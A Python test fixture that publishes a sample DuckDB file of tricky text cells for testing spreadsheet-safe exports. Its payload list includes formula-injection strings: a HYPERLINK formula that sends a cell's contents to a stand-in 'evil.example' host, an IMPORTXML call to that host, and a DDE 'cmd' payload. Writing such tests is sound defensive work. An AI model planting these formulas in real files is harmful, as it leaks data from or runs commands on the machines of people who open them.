"""Small published files with everything in them that a spreadsheet, a program or another system could trip over."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

import duckdb

from orchestration.exports.text_cells import without_controls

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\ufeff=1+1", "＝1+1", "－1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")', "=cmd|'/C calc'!A0", '=IMPORTXML("https://evil.example","//a")',
    "'=1+1", "''", '"=1+1', "=1+1;=2+2", "\x0b=1+1",
)  # fmt: skip
HARMLESS = (
    "plain", "a=b", "Norland's navy", " lead and trail ", "first\nsecond", 'he said "no", twice; then', "_x0041_", "#REF!",
    "12345678901234567890", "007", "1E5", "2024-01-05", "TRUE", "ظهر ١٢", "\U0001f600 tank",
)  # fmt: skip
CONTROLS = "belt\x0bof\x00mines\x1f"
LONG_TEXT = "Norland sent one tank. " * 1_740  # over 40,000 characters
LONG_URL = "https://news.example/?q=" + "x" * 40_000
TEXTS = (*PAYLOADS, *HARMLESS, CONTROLS, LONG_TEXT)
QUOTED = [text if len(text) <= 300 else text[:299] + "…" for text in TEXTS]  # as every export has them
SHOWN = [without_controls(text)[0] for text in QUOTED]  # as files for spreadsheets have them
BUILT_AT = datetime(2026, 11, 24, 10, 5)  # noqa: DTZ001 - naive UTC

_TEXTS = """
    create table marts.mart_texts (
        text_id varchar, external_id varchar, note_text varchar, page_url varchar, stage varchar, supplier_code varchar,
        recipient_code varchar, n_tanks bigint, n_atoms bigint, amount decimal(24, 2), share double, is_told boolean,
        event_date_start date, seen_at timestamp
    );
    comment on table marts.mart_texts is 'One row per text that could do harm.';
    comment on column marts.mart_texts.note_text is 'What a page says.';
"""


def text_rows() -> list[tuple[object, ...]]:
    """The rows of marts.mart_texts, one per text."""
    return [
        (
            f"txt_{at:03}", f"{12345678901234567890 + at}", text, LONG_URL if at == 1 else f"https://news.example/{at}",
            ("delivered", "agreed", None)[at % 3], ("USA", "RUS")[at % 2], "UKR", at - 5, 2**60 + at, f"{at - 3}.50", -0.25 * at,
            at % 2 == 0, f"2024-01-{at % 28 + 1:02}", f"2024-01-{at % 28 + 1:02} 08:00:{at:02}",
        )
        for at, text in enumerate(TEXTS)
    ]  # fmt: skip


def publish_sample(
    home: Path, build_id: str = "b1", *, statements: str = "", day: datetime = BUILT_AT
) -> Path:
    """Publishes a file with marts.mart_texts and facts of no number; `statements` change it before it is shown."""
    folder = home / "data" / "warehouse" / "builds" / build_id
    folder.mkdir(parents=True)
    path = folder / "newsledger.duckdb"
    with duckdb.connect(str(path)) as connection:
        connection.execute("create schema marts; create schema meta")
        connection.execute(_TEXTS)
        places = ", ".join("?" * len(text_rows()[0]))
        connection.executemany(f"insert into marts.mart_texts values ({places})", text_rows())
        connection.execute(
            "create table marts.fct_troop_counts as select 'trp_' || n as troop_count_id, 'UKR' as force_code, "
            "'deployed' as status, n as count_best from range(3) as numbers(n)"
        )
        connection.execute(
            "create table meta.builds as select ? as build_id, ?::timestamp as published_at, '0.1.0' as newsledger_version, "
            "'abc' as content_hash",
            [build_id, day],
        )
        connection.execute(statements or "select 1")
    current = home / "data" / "warehouse" / "current"
    current.unlink(missing_ok=True)
    current.symlink_to(f"builds/{build_id}")
    return path
